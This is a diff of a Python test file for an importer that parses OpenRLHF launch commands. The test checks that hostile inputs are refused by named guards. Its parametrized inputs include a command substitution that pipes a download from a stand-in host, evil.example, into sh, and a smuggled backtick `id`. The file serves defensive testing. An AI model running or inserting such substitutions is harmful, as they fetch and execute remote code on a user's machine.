@@ -1,7 +1,6 @@
 """The OpenRLHF importer on OpenRLHF's own example scripts (tests/data/launch/README.md), each mapped to a
 JSON config written out here by hand from the scripts' flags, with an equal estimate."""
 
-import time
 from pathlib import Path
 
 import pytest
@@ -122,13 +121,29 @@ def test_typos_and_bad_values_are_named():
         import_config("python3 -m openrlhf.cli.train_rm --model.model_name_or_path a/b", "openrlhf", gpus=8)
 
 
-@pytest.mark.parametrize("line", [
-    "python3 -m openrlhf.cli.train_sft --model.model_name_or_path $(curl evil.example | sh)",
-    "python3 -m openrlhf.cli.train_sft --data.max_len `id` --model.model_name_or_path a/b",
-    "python3 -m openrlhf.cli.train_sft " + "--data.max_len 4096 " * 40_000,
+@pytest.fixture
+def read(monkeypatch) -> list[str]:
+    """The kinds whose reader `import_config` went on to run (after its size check), as it runs them."""
+    import estimator.importers as importers
+    kinds, real = [], importers._reader
+    monkeypatch.setattr(importers, "_reader", lambda kind: kinds.append(kind) or real(kind))
+    return kinds
+
+
+SUBSTITUTION = "a command substitution would have to run a command; nothing is run"
+TOO_LARGE = "too large; allowed: text of at most 256 KiB"
+
+
+@pytest.mark.parametrize("line, refusal", [
+    ("python3 -m openrlhf.cli.train_sft --model.model_name_or_path $(curl evil.example | sh)", SUBSTITUTION),
+    ("python3 -m openrlhf.cli.train_sft --data.max_len `id` --model.model_name_or_path a/b", SUBSTITUTION),
+    ("python3 -m openrlhf.cli.train_sft " + "--data.max_len 4096 " * 40_000, TOO_LARGE),
 ])
-def test_hostile_lines_are_refused_fast(line):
-    start = time.perf_counter()
-    with pytest.raises(ConfigError):
+def test_hostile_lines_are_refused_by_their_guard(line, refusal, read):
+    """Each is refused by the guard that bounds its cost, not by a clock (their times:
+    bench/bench_refusals.py): a command substitution by the shell reader, which never runs it; text
+    over MAX_BYTES by the size check, before any reader runs."""
+    with pytest.raises(ConfigError) as info:
         import_config(line, "openrlhf", gpus=8)
-    assert time.perf_counter() - start < 1.0
+    assert refusal in str(info.value)
+    assert read == ([] if refusal == TOO_LARGE else ["openrlhf"])
